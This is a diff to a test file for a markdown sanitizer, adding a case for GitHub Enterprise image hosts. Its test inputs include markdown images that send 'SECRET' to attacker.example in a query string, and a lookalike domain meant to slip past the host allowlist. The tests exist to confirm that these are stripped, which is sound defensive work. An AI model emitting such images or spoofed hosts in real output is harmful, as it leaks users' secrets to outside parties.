@@ -152,6 +152,21 @@ describe("toSafeMarkdown", () => {
     expect(safe("![pixel](http://track.example/p.gif)")).toBe("pixel");
   });
 
+  it("keeps a GitHub Enterprise Server's images where its host is given, and only there", () => {
+    const ghe = { ...options, imageHosts: ["ghe.example.com"] };
+    for (const src of [
+      "https://ghe.example.com/user-attachments/assets/1",
+      "https://media.ghe.example.com/user/1/a.png",
+    ]) {
+      const out = toSafeMarkdown(`![shot](${src})`, ghe);
+      expect(out).toBe(`![shot](<${src}>)`);
+      expect(checkSafeMarkdown(out, ghe)).toEqual([]);
+      // Without it (github.com), the host is any other.
+      expect(safe(`![shot](${src})`)).toBe("shot");
+    }
+    expect(toSafeMarkdown("![x](https://ghe.example.com.attacker.example/p.png)", ghe)).toBe("x");
+  });
+
   it.each([
     ["an image", "![status](https://attacker.example/p.png?d=SECRET)"],
     ["an image in a link", "[![x](https://attacker.example/a.png?d=SECRET)](https://ok.example)"],
